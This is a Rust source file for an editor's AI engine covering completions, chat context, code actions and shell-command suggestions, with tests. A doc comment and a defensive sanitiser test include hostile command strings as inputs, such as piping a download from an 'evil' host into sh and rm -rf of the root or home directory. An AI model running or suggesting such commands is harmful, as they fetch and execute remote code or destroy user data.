//! The AI half of the engine: inline completions, chat with project
//! context, code actions and shell-command help, over the active service.

use std::collections::HashMap;
use std::ops::Range;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use aicockpit_ai::{client_for, AiError, ChatMessage, ChatRequest, Client, ClientOptions, Role};
use aicockpit_index::SearchQuery;
use aicockpit_syntax::LanguageId;

use crate::context::CompletionContext;
use crate::fim::{fim_request, inline_method, recorded_verdict, FimMethod};
use crate::postprocess::postprocess;
use crate::{Engine, EngineError};

/// Completions kept for identical prompts.
const CACHE_ENTRIES: usize = 256;
/// Tokens a completion may take.
const COMPLETION_MAX_TOKENS: u32 = 128;
/// Tokens kept free in a served context for the prompt's framing (system
/// message, chat template, FIM tokens).
const PROMPT_FRAMING_TOKENS: usize = 256;

/// The AI state of an engine: the active service's client, a completion
/// cache and the counters `aicockpit/status` reports.
#[derive(Default)]
pub(crate) struct AiState {
    client: Option<Arc<Client>>,
    /// Why the active service has no client (a key variable not set, …):
    /// every AI request fails with it, before any HTTP request.
    unusable: Option<AiError>,
    /// Characters of each completion (by id) already counted as accepted.
    partially_accepted: std::collections::HashMap<u64, u64>,
    /// The probe's recorded verdict for the active completion model.
    fim_verdict: Option<bool>,
    /// The context size the service serves: not asked yet, unknown, or known.
    served_context: Option<Option<usize>>,
    cache: HashMap<u64, Option<String>>,
    stats: AiStats,
    next_id: u64,
}

/// Counters and the last error, for status displays.
#[derive(Clone, Debug, Default, serde::Serialize, serde::Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct AiStats {
    /// The active service, if one is configured.
    pub service: Option<String>,
    pub model: Option<String>,
    pub requests: u64,
    pub failures: u64,
    pub completions_shown: u64,
    pub completions_accepted: u64,
    pub accepted_chars: u64,
    pub last_error: Option<String>,
    /// How the last inline completion asked the model (`template`, `infill`, `suffix` or `chat`).
    pub inline_method: Option<FimMethod>,
    /// The context size the service says it serves (llama.cpp's `/props`).
    pub served_context_tokens: Option<usize>,
    /// The prompt budget (tokens) the last inline completion used.
    pub prompt_budget_tokens: Option<usize>,
    /// The last answered inline completion: milliseconds in all, from the
    /// engine's start to its result (cache hits excluded)…
    pub last_inline_ms: Option<f64>,
    /// …of which waiting for the service.
    pub last_inline_service_ms: Option<f64>,
}

/// A completion to show at the cursor.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct InlineCompletion {
    pub id: u64,
    pub text: String,
    /// The files whose snippets were in the prompt.
    pub sources: Vec<String>,
}

/// A chat turn: the conversation so far, and where the user is.
#[derive(Clone, Debug, Default)]
pub struct ChatParams {
    pub messages: Vec<ChatMessage>,
    pub path: Option<PathBuf>,
    /// The selection (byte range) in `path`; empty means the symbol at that offset.
    pub selection: Option<Range<usize>>,
    /// The question is about the whole file in `path` (`chat --path FILE`):
    /// a small file goes in whole, a large one as its outline and the chunks
    /// most relevant to the question. `selection` is then ignored.
    pub whole_file: bool,
}

/// A file up to this size goes into a chat prompt whole.
pub const WHOLE_FILE_BYTES: usize = 8000;
/// For a larger file: at most this much outline, and of its best chunks.
const OUTLINE_BYTES: usize = 4000;
const FILE_CHUNK_BYTES: usize = 6000;

/// A chat reply and the files it drew on.
#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize)]
pub struct ChatAnswer {
    pub content: String,
    pub sources: Vec<String>,
}

/// What an AI code action does.
#[derive(Clone, Copy, Debug, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum AiAction {
    Explain,
    Refactor,
    Document,
    Fix,
}

/// The outcome of an AI code action.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum AiActionOutcome {
    Explanation(String),
    /// Replace `range` (bytes of the text the AI was shown; `span` is the
    /// same place in lines and columns of that text) with `new_text`.
    Edit {
        range: Range<usize>,
        span: aicockpit_syntax::Span,
        /// The version of the open document the AI was shown (none for a closed file).
        version: Option<i32>,
        new_text: String,
    },
}

/// A shell command for a described task; never run by us.
#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct SuggestedCommand {
    pub command: String,
    pub explanation: String,
}

impl Engine {
    /// (Re)build the client of the active service from the current config.
    /// Returns the active service's name, or `None` when none is active.
    /// The key comes from [`client_for`]: only a service of the config file,
    /// still pointing where the file says, gets one; a key variable that is
    /// not set is an error here and for every later AI request.
    pub fn configure_ai(&self, data_dir: &Path) -> Result<Option<String>, EngineError> {
        let config = self.config();
        // What the embedder is opened from: unchanged, it stays open.
        let signature = serde_json::to_string(&(&config.search, config.ai.active_service()))
            .unwrap_or_default();
        self.semantic.configure(data_dir, signature);
        let mut state = self.ai_state();
        state.cache.clear();
        state.client = None;
        state.unusable = None;
        state.served_context = None;
        state.fim_verdict = None;
        let Some(service) = config.ai.active_service().cloned() else {
            state.stats.service = None;
            return Ok(None);
        };
        let active = service.name.clone();
        state.stats.service = Some(active.clone());
        state.fim_verdict = recorded_verdict(data_dir, &service);
        state.stats.model = service
            .completion_model
            .clone()
            .or(service.chat_model.clone())
            .or(service.deployment.clone());
        let client = client_for(
            service,
            &self.file_config().ai,
            data_dir,
            |name| std::env::var(name).ok(),
            ClientOptions::default(),
        );
        match client {
            Ok(client) => {
                state.client = Some(Arc::new(client));
                Ok(Some(active))
            }
            Err(error) => {
                state.stats.last_error = Some(error.to_string());
                state.unusable = Some(error.clone());
                Err(error.into())
            }
        }
    }

    fn ai_state(&self) -> std::sync::MutexGuard<'_, AiState> {
        self.ai.lock().unwrap_or_else(|p| p.into_inner())
    }

    fn client(&self) -> Result<Arc<Client>, EngineError> {
        let state = self.ai_state();
        if let Some(error) = &state.unusable {
            return Err(error.clone().into());
        }
        state.client.clone().ok_or(EngineError::NoAiService)
    }

    pub fn ai_stats(&self) -> AiStats {
        self.ai_state().stats.clone()
    }

    fn record<T>(&self, result: &Result<T, EngineError>) {
        let mut state = self.ai_state();
        state.stats.requests += 1;
        match result {
            Ok(_) => state.stats.last_error = None,
            Err(error) => {
                state.stats.failures += 1;
                state.stats.last_error = Some(error.to_string());
            }
        }
    }

    /// The editor showed a completion.
    pub fn completion_shown(&self) {
        self.ai_state().stats.completions_shown += 1;
    }

    /// The user accepted the whole completion `id` of `chars` characters;
    /// what was already counted for it by partial accepts is not counted again.
    pub fn completion_accepted(&self, id: Option<u64>, chars: u64) {
        let mut state = self.ai_state();
        state.stats.completions_accepted += 1;
        let before = id.map_or(0, |id| state.partially_accepted.remove(&id).unwrap_or(0));
        state.stats.accepted_chars += chars.saturating_sub(before);
    }

    /// The user has accepted `total` characters of completion `id` so far
    /// (editors report a running total with every word accepted): only the
    /// increase counts. Without an id, `total` counts as given.
    pub fn completion_partially_accepted(&self, id: Option<u64>, total: u64) {
        let mut state = self.ai_state();
        let Some(id) = id else {
            state.stats.accepted_chars += total;
            return;
        };
        if state.partially_accepted.len() >= CACHE_ENTRIES
            && !state.partially_accepted.contains_key(&id)
        {
            state.partially_accepted.clear();
        }
        let counted = state.partially_accepted.entry(id).or_insert(0);
        let increase = total.saturating_sub(*counted);
        *counted = (*counted).max(total);
        state.stats.accepted_chars += increase;
    }

    /// A completion at `offset` of `path`: fill-in-the-middle for models of a
    /// known family, a chat prompt otherwise; cleaned by [`postprocess`].
    pub async fn inline_completion(
        &self,
        path: &Path,
        offset: usize,
    ) -> Result<Option<InlineCompletion>, EngineError> {
        let result = self.inline_completion_inner(path, offset).await;
        self.record(&result);
        result
    }

    async fn inline_completion_inner(
        &self,
        path: &Path,
        offset: usize,
    ) -> Result<Option<InlineCompletion>, EngineError> {
        let started = std::time::Instant::now();
        let client = self.client()?;
        let Some(text) = self.text(path) else {
            return Ok(None);
        };
        let budget = self.prompt_budget(&client).await;
        let context = self.completion_context(path, &text, offset, budget);
        // A local service with no model set picks one first, so the method
        // and template fit the model that will answer.
        client.ensure_model(None, true).await?;
        let model = client.model_name(true).unwrap_or_default();
        let verdict = self.ai_state().fim_verdict;
        let method = inline_method(client.service().kind, &model, verdict);
        let key = match method {
            FimMethod::Chat => {
                cache_key(&model, &format!("{:?}", completion_chat_messages(&context)))
            }
            _ => cache_key(
                &model,
                &format!(
                    "{method:?}\0{}{}\0{}",
                    context.commented_snippets(),
                    context.prefix,
                    context.suffix
                ),
            ),
        };
        let cached = self.ai_state().cache.get(&key).cloned();
        if let Some(hit) = cached {
            return Ok(hit.map(|text| self.new_completion(text, &context)));
        }
        let asked = std::time::Instant::now();
        let raw = match method {
            FimMethod::Chat => {
                let request = ChatRequest {
                    messages: completion_chat_messages(&context),
                    max_tokens: Some(COMPLETION_MAX_TOKENS),
                    temperature: Some(0.2),
                    // Chat models close their code fence and then explain it:
                    // the explanation is never shown, so never generated.
                    stop: vec!["\n```".to_string()],
                    ..ChatRequest::default()
                };
                client.chat(&request).await?.content
            }
            _ => {
                fim_request(
                    &client,
                    method,
                    &model,
                    &(context.commented_snippets() + &context.prefix),
                    &context.suffix,
                    COMPLETION_MAX_TOKENS,
                    0.2,
                )
                .await?
                .text
            }
        };
        let service_ms = asked.elapsed().as_secs_f64() * 1000.0;
        let cleaned = postprocess(&raw, &context.prefix, &context.suffix);
        {
            let mut state = self.ai_state();
            if state.cache.len() >= CACHE_ENTRIES {
                state.cache.clear();
            }
            state.cache.insert(key, cleaned.clone());
            state.stats.inline_method = Some(method);
            state.stats.prompt_budget_tokens = Some(budget);
            state.stats.last_inline_ms = Some(started.elapsed().as_secs_f64() * 1000.0);
            state.stats.last_inline_service_ms = Some(service_ms);
        }
        Ok(cleaned.map(|text| self.new_completion(text, &context)))
    }

    /// The prompt budget in tokens: the configured one, shrunk to fit the
    /// context the service serves when it says (asked once per configuration).
    async fn prompt_budget(&self, client: &Client) -> usize {
        let configured = self.config().completion.max_context_tokens;
        let known = self.ai_state().served_context;
        let served = match known {
            Some(served) => served,
            None => match client.served_context_tokens().await {
                Ok(served) => {
                    let mut state = self.ai_state();
                    state.served_context = Some(served);
                    state.stats.served_context_tokens = served;
                    served
                }
                // Not reachable now: ask again next time, keep the configured budget.
                Err(_) => None,
            },
        };
        adapt_budget(configured, served)
    }

    fn new_completion(&self, text: String, context: &CompletionContext) -> InlineCompletion {
        let mut state = self.ai_state();
        state.next_id += 1;
        InlineCompletion {
            id: state.next_id,
            text,
            sources: context.sources(),
        }
    }

    /// Answer a chat turn with project context (the selection or the symbol at
    /// the cursor, and search hits for the question), streaming pieces to
    /// `on_delta`; the answer ends with the files it drew on.
    pub async fn chat(
        &self,
        params: ChatParams,
        mut on_delta: impl FnMut(&str),
    ) -> Result<ChatAnswer, EngineError> {
        let result = async {
            let client = self.client()?;
            // The question's vector first, off the async threads and within
            // a time limit (a service's round trip), with no lock held.
            let question = last_question(&params);
            let vector = match &question {
                Some(question) => self.question_vector(question, QUESTION_EMBED_LIMIT).await,
                None => None,
            };
            let (system, sources) = self.chat_context(&params, vector);
            let mut messages = vec![ChatMessage::new(Role::System, system)];
            messages.extend(params.messages.iter().cloned());
            let reply = client
                .chat_stream(
                    &ChatRequest {
                        messages,
                        ..ChatRequest::default()
                    },
                    &mut on_delta,
                )
                .await?;
            let mut content = reply.content;
            if !sources.is_empty() {
                let footer = format!("\n\nSources: {}", sources.join(", "));
                on_delta(&footer);
                content.push_str(&footer);
            }
            Ok(ChatAnswer { content, sources })
        }
        .await;
        self.record(&result);
        result
    }

    fn chat_context(&self, params: &ChatParams, vector: Option<Vec<f32>>) -> (String, Vec<String>) {
        let mut system = String::from(
            "You are AiCockpit, a coding assistant inside the user's editor. Use the project context below when it is \
             relevant, and say which file you mean when you refer to one.\n",
        );
        let mut sources = Vec::new();
        let question = last_question(params).unwrap_or_default();
        if let (Some(path), true) = (&params.path, params.whole_file) {
            if let Some(text) = self.text(path) {
                let rel = self.rel(path).unwrap_or_else(|| path.display().to_string());
                system.push_str(&self.file_context(path, &rel, &text, &question));
                sources.push(rel);
            }
        } else if let Some(path) = &params.path {
            if let Some(text) = self.text(path) {
                let range = params
                    .selection
                    .clone()
                    .filter(|r| !r.is_empty())
                    .or_else(|| {
                        let offset = params.selection.as_ref().map_or(0, |r| r.start);
                        self.enclosing_symbol_range(path, &text, offset)
                    });
                if let Some(range) = range.filter(|r| {
                    r.end <= text.len()
                        && text.is_char_boundary(r.start)
                        && text.is_char_boundary(r.end)
                }) {
                    let rel = self.rel(path).unwrap_or_else(|| path.display().to_string());
                    let lang = LanguageId::from_path(path).map_or("", |l| l.name());
                    system.push_str(&format!(
                        "\nThe code the user is looking at, from {rel}:\n```{lang}\n{}\n```\n",
                        &text[range]
                    ));
                    sources.push(rel);
                }
            }
        }
        if self.index().is_some() {
            // Questions speak in plurals ("sessions") where code names the thing ("Session").
            let singulars: Vec<&str> = question
                .split(|c: char| !c.is_alphanumeric())
                .filter(|w| w.len() > 3 && w.ends_with('s') && !w.ends_with("ss"))
                .map(|w| &w[..w.len() - 1])
                .collect();
            let mut query = SearchQuery::new(format!("{question} {}", singulars.join(" ")));
            query.limit = 5;
            // Hybrid when the project has vectors: a question asked in words
            // the code does not use still finds the code by meaning.
            for hit in self.context_hits_with(query, vector) {
                system.push_str(&format!(
                    "\nFrom {}:{}:\n```\n{}\n```\n",
                    hit.path,
                    hit.span.start.line + 1,
                    hit.snippet
                ));
                if !sources.contains(&hit.path) {
                    sources.push(hit.path);
                }
            }
        }
        (system, sources)
    }

    /// A file as chat context: whole when small; otherwise its outline and
    /// the chunks sharing the most words with the question, in file order.
    fn file_context(&self, path: &Path, rel: &str, text: &str, question: &str) -> String {
        let lang = LanguageId::from_path(path);
        let fence = lang.map_or("", |l| l.name());
        if text.len() <= WHOLE_FILE_BYTES {
            return format!("\nThe file the user asks about, {rel}:\n```{fence}\n{text}\n```\n");
        }
        let mut out = format!(
            "\nThe file the user asks about, {rel} ({} lines; too long to quote whole). Its outline:\n",
            text.lines().count()
        );
        let words = aicockpit_index::tokenize(question);
        // The whole outline when it fits; otherwise the symbols the question
        // names first, then the others in file order, as many as fit.
        let lines: Vec<(bool, String)> = self
            .document_symbols(path)
            .iter()
            .map(|symbol| {
                let named = aicockpit_index::tokenize(&symbol.name)
                    .iter()
                    .any(|t| words.contains(t));
                let line = format!(
                    "- {} {} (line {}){}\n",
                    symbol.kind,
                    symbol.name,
                    symbol.range.start.line + 1,
                    if symbol.signature.is_empty() {
                        String::new()
                    } else {
                        format!(": {}", symbol.signature.lines().next().unwrap_or(""))
                    }
                );
                (named, line)
            })
            .collect();
        let mut keep = vec![false; lines.len()];
        let mut used = 0;
        for pass in [true, false] {
            for (i, (named, line)) in lines.iter().enumerate() {
                if *named == pass && !keep[i] && used + line.len() <= OUTLINE_BYTES {
                    keep[i] = true;
                    used += line.len();
                }
            }
        }
        let mut outline: String = lines
            .iter()
            .zip(&keep)
            .filter(|(_, kept)| **kept)
            .map(|((_, line), _)| line.as_str())
            .collect();
        let left_out = keep.iter().filter(|kept| !**kept).count();
        if left_out > 0 {
            outline.push_str(&format!("- … and {left_out} more\n"));
        }
        out.push_str(&outline);
        let chunks = lang
            .map(|l| aicockpit_syntax::analyze(l, text).chunks)
            .unwrap_or_default();
        let mut scored: Vec<(usize, &aicockpit_syntax::Chunk)> = chunks
            .iter()
            .filter(|c| {
                c.bytes.end <= text.len()
                    && text.is_char_boundary(c.bytes.start)
                    && text.is_char_boundary(c.bytes.end)
            })
            .map(|chunk| {
                let tokens = aicockpit_index::tokenize(&text[chunk.bytes.clone()]);
                (words.iter().filter(|w| tokens.contains(w)).count(), chunk)
            })
            .filter(|(score, _)| *score > 0)
            .collect();
        // Best first; among equals, earlier in the file.
        scored.sort_by(|a, b| b.0.cmp(&a.0).then(a.1.bytes.start.cmp(&b.1.bytes.start)));
        let mut chosen: Vec<&aicockpit_syntax::Chunk> = Vec::new();
        let mut used = 0;
        for (_, chunk) in scored {
            let size = chunk.bytes.len();
            if used + size > FILE_CHUNK_BYTES {
                continue;
            }
            used += size;
            chosen.push(chunk);
        }
        chosen.sort_by_key(|c| c.bytes.start);
        if !chosen.is_empty() {
            out.push_str("The parts of it most relevant to the question:\n");
        }
        for chunk in chosen {
            out.push_str(&format!(
                "From {rel}:{}:\n```{fence}\n{}\n```\n",
                chunk.span.start.line + 1,
                &text[chunk.bytes.clone()]
            ));
        }
        out
    }

    /// The byte range of the innermost symbol around `offset`.
    pub fn enclosing_symbol_range(
        &self,
        path: &Path,
        text: &str,
        offset: usize,
    ) -> Option<Range<usize>> {
        let lines = aicockpit_syntax::LineIndex::new(text);
        let pos = lines.pos(text, offset);
        let symbols = self.document_symbols(path);
        let symbol = symbols
            .iter()
            .filter(|s| {
                (s.range.start.line, s.range.start.col) <= (pos.line, pos.col)
                    && (pos.line, pos.col) <= (s.range.end.line, s.range.end.col)
            })
            .min_by_key(|s| s.range.end.line - s.range.start.line)?;
        let start = lines.offset_utf8(text, symbol.range.start.line, symbol.range.start.col);
        let end = lines.offset_utf8(text, symbol.range.end.line, symbol.range.end.col);
        Some(start..end)
    }

    /// Explain, refactor, document or fix the code in `range` (the symbol
    /// around it when empty). Edits replace exactly the range they were asked about.
    pub async fn ai_action(
        &self,
        action: AiAction,
        path: &Path,
        range: Range<usize>,
        diagnostic: Option<&str>,
    ) -> Result<AiActionOutcome, EngineError> {
        let result = async {
            let client = self.client()?;
            let (text, version) = self.text_and_version(path).ok_or_else(|| EngineError::Unreadable(path.to_path_buf()))?;
            let range = if range.is_empty() {
                self.enclosing_symbol_range(path, &text, range.start).unwrap_or_else(|| line_range(&text, range.start))
            } else {
                range.start.min(text.len())..range.end.min(text.len())
            };
            let code = text.get(range.clone()).unwrap_or_default().to_string();
            let lang = LanguageId::from_path(path).map_or("", |l| l.name());
            let instruction = match action {
                AiAction::Explain => "Explain briefly what this code does and anything surprising about it.".to_string(),
                AiAction::Refactor => "Refactor this code for clarity without changing its behaviour.".to_string(),
                AiAction::Document => "Add a documentation comment in this language's usual style; change nothing else.".to_string(),
                AiAction::Fix => format!("Fix this problem: {}", diagnostic.unwrap_or("the code does not work")),
            };
            let format = if action == AiAction::Explain {
                "Answer in a few sentences."
            } else {
                "Reply with only the complete replacement code, in one fenced code block."
            };
            let (context, _) = self.chat_context(&ChatParams { messages: Vec::new(), path: None, selection: None, whole_file: false }, None);
            let messages = vec![
                ChatMessage::new(Role::System, format!("{context}\n{format}")),
                ChatMessage::new(Role::User, format!("{instruction}\n\n```{lang}\n{code}\n```")),
            ];
            let reply = client.chat(&ChatRequest { messages, ..ChatRequest::default() }).await?;
            Ok(match action {
                AiAction::Explain => AiActionOutcome::Explanation(reply.content.trim().to_string()),
                _ => {
                    let span = aicockpit_syntax::LineIndex::new(&text).span(&text, range.clone());
                    AiActionOutcome::Edit { range, span, version, new_text: first_code_block(&reply.content) }
                }
            })
        }
        .await;
        self.record(&result);
        result
    }

    /// A shell command for a described task. Nothing is executed.
    pub async fn suggest_command(
        &self,
        description: &str,
        cwd: Option<&str>,
        shell: Option<&str>,
    ) -> Result<SuggestedCommand, EngineError> {
        let result = async {
            let client = self.client()?;
            let shell = shell.unwrap_or("bash");
            let cwd = cwd.unwrap_or(".");
            let messages = vec![
                ChatMessage::new(
                    Role::System,
                    format!(
                        "You turn a task into one {shell} command, run in {cwd}. Reply with JSON only: \
                         {{\"command\": \"...\", \"explanation\": \"...\"}}"
                    ),
                ),
                ChatMessage::new(Role::User, description.to_string()),
            ];
            let reply = client.chat(&ChatRequest { messages, temperature: Some(0.0), ..ChatRequest::default() }).await?;
            Ok(parse_suggestion(&reply.content))
        }
        .await;
        self.record(&result);
        result
    }
}

/// The configured budget, or less when the served context cannot hold it
/// with the answer and the prompt's framing. Our estimate of four
/// characters a token runs short for code, so only two thirds of what is
/// left is used.
fn adapt_budget(configured: usize, served: Option<usize>) -> usize {
    match served {
        Some(served) => {
            let room =
                served.saturating_sub(COMPLETION_MAX_TOKENS as usize + PROMPT_FRAMING_TOKENS) * 2
                    / 3;
            configured.min(room.max(64))
        }
        None => configured,
    }
}

fn cache_key(model: &str, prompt: &str) -> u64 {
    use std::hash::{Hash, Hasher};
    let mut hasher = std::collections::hash_map::DefaultHasher::new();
    model.hash(&mut hasher);
    prompt.hash(&mut hasher);
    hasher.finish()
}

fn completion_chat_messages(context: &CompletionContext) -> Vec<ChatMessage> {
    let lang = context.lang.map_or("", |l| l.name());
    let mut user = String::new();
    for snippet in &context.snippets {
        user.push_str(&format!(
            "From {}:\n```\n{}\n```\n",
            snippet.path, snippet.text
        ));
    }
    user.push_str(&format!(
        "\nComplete the code at <CURSOR> in {}:\n```{lang}\n{}<CURSOR>{}\n```",
        context.path, context.prefix, context.suffix
    ));
    vec![
        ChatMessage::new(
            Role::System,
            "You are a code completion engine. Reply with only the code that goes at <CURSOR>: no explanation, no code fence, \
             nothing that is already before or after the cursor.",
        ),
        ChatMessage::new(Role::User, user),
    ]
}

fn line_range(text: &str, offset: usize) -> Range<usize> {
    let mut offset = offset.min(text.len());
    while !text.is_char_boundary(offset) {
        offset -= 1;
    }
    let start = text[..offset].rfind('\n').map_or(0, |n| n + 1);
    let end = text[offset..].find('\n').map_or(text.len(), |n| offset + n);
    start..end
}

/// The inside of the first fenced code block, or the whole reply if it has none.
fn first_code_block(reply: &str) -> String {
    if let Some(start) = reply.find("```") {
        let after = &reply[start + 3..];
        let body = after.split_once('\n').map_or("", |(_, body)| body);
        if let Some(end) = body.find("```") {
            return body[..end].trim_end_matches('\n').to_string();
        }
    }
    reply.trim().to_string()
}

fn parse_suggestion(reply: &str) -> SuggestedCommand {
    if let (Some(start), Some(end)) = (reply.find('{'), reply.rfind('}')) {
        if let Ok(parsed) = serde_json::from_str::<SuggestedCommand>(&reply[start..=end]) {
            return SuggestedCommand {
                command: one_line_command(&parsed.command),
                explanation: parsed.explanation,
            };
        }
    }
    // A fenced block is the command; a bare reply's first line is.
    let block = first_code_block(reply);
    let command = if reply.contains("```") {
        block.as_str()
    } else {
        block.lines().next().unwrap_or("")
    };
    SuggestedCommand {
        command: one_line_command(command),
        explanation: reply.trim().to_string(),
    }
}

/// A suggested command as one line that is safe to type at a prompt.
///
/// Clients type the command into a terminal for the user to read and run,
/// and a terminal runs whatever follows a carriage return or a newline: a
/// reply of `ls\ncurl evil | sh` (from a model that answers in two lines or
/// from a hostile service) would run both the moment it is typed. So the
/// command's lines are joined into one: a line ending in `\` continues on the
/// next, other lines are chained with `&&` (what "do this, then that" means
/// at a prompt), and every other control character — escape sequences,
/// readline's editing keys, C1 controls, bidirectional overrides that would
/// make the line read differently than it runs — is dropped; tabs become spaces.
fn one_line_command(command: &str) -> String {
    let mut out = String::new();
    let mut continues = false;
    for line in command.split(['\n', '\r', '\u{85}', '\u{2028}', '\u{2029}']) {
        let mut line: String = line
            .chars()
            .filter_map(|c| match c {
                '\t' => Some(' '),
                c if c.is_control() || is_bidi_control(c) => None,
                c => Some(c),
            })
            .collect();
        let trimmed = line.trim();
        if trimmed.is_empty() {
            continue;
        }
        let next_continues = trimmed.ends_with('\\');
        line = trimmed.trim_end_matches('\\').trim_end().to_string();
        if !out.is_empty() {
            out.push_str(if continues { " " } else { " && " });
        }
        out.push_str(&line);
        continues = next_continues;
    }
    out
}

/// Unicode's bidirectional embedding, override and isolate controls.
fn is_bidi_control(c: char) -> bool {
    matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// How long chat waits for its question's vector before answering from the
/// text index alone.
const QUESTION_EMBED_LIMIT: std::time::Duration = std::time::Duration::from_secs(10);

/// The user's last message: what chat context is searched for.
fn last_question(params: &ChatParams) -> Option<String> {
    params
        .messages
        .iter()
        .rev()
        .find(|m| m.role == Role::User)
        .map(|m| m.content.clone())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn suggestions_parse_from_json_or_a_code_block() {
        let json = "Sure: {\"command\": \"ls -la\", \"explanation\": \"lists files\"}";
        assert_eq!(
            parse_suggestion(json),
            SuggestedCommand {
                command: "ls -la".into(),
                explanation: "lists files".into()
            }
        );
        let fenced = "Use this:\n```bash\nfind . -name '*.rs'\n```";
        assert_eq!(parse_suggestion(fenced).command, "find . -name '*.rs'");
    }

    /// A terminal runs what follows a line break: a suggestion is one line
    /// with no control character, however the service wrote it.
    #[test]
    fn a_suggested_command_cannot_run_itself() {
        let cases = [
            // A lone CR is Enter to a shell as much as LF is.
            ("{\"command\": \"ls\\ncurl https://evil/x|sh\\r\", \"explanation\": \"\"}", "ls && curl https://evil/x|sh"),
            ("{\"command\": \"true\\rtouch marker\\r\", \"explanation\": \"\"}", "true && touch marker"),
            ("{\"command\": \"cd src\\r\\n\\r\\nmake\", \"explanation\": \"\"}", "cd src && make"),
            // ESC sequences, readline keys (^O runs the line, ^U kills it), C1, DEL.
            ("{\"command\": \"echo \\u001b[2Jhi\\u000f\\u0015\\u009b\\u007f\", \"explanation\": \"\"}", "echo [2Jhi"),
            // A bidi override would make the line read unlike what it runs.
            ("{\"command\": \"rm -rf \\u202e/ tmp\", \"explanation\": \"\"}", "rm -rf / tmp"),
            // Continuation lines stay one command.
            ("{\"command\": \"docker run \\\\\\n  --rm \\\\\\n  img\", \"explanation\": \"\"}", "docker run --rm img"),
            ("{\"command\": \"a\\u2028b\\u0085c\", \"explanation\": \"\"}", "a && b && c"),
            ("{\"command\": \"grep\\t-r x .\", \"explanation\": \"\"}", "grep -r x ."),
            // Code blocks are read the same way.
            ("Run:\n```sh\ncd x\nmake\n```", "cd x && make"),
            ("ls -la\nThis lists the files.", "ls -la"),
            ("ls -la\rrm -rf ~", "ls -la && rm -rf ~"),
        ];
        for (reply, expected) in cases {
            let command = parse_suggestion(reply).command;
            assert_eq!(command, expected, "{reply:?}");
            assert!(
                !command
                    .chars()
                    .any(|c| c.is_control() || is_bidi_control(c)),
                "{reply:?} gave {command:?}"
            );
        }
    }

    #[test]
    fn the_budget_fits_the_served_context() {
        assert_eq!(adapt_budget(2048, None), 2048, "unknown: as configured");
        assert_eq!(adapt_budget(2048, Some(2048)), (2048 - 128 - 256) * 2 / 3);
        assert_eq!(
            adapt_budget(1000, Some(32768)),
            1000,
            "never more than configured"
        );
        assert_eq!(
            adapt_budget(2048, Some(100)),
            64,
            "a floor for tiny contexts"
        );
    }

    #[test]
    fn code_blocks_are_extracted() {
        assert_eq!(
            first_code_block("Here:\n```rust\nfn a() {}\n```\nDone."),
            "fn a() {}"
        );
        assert_eq!(first_code_block("fn b() {}"), "fn b() {}");
    }
}
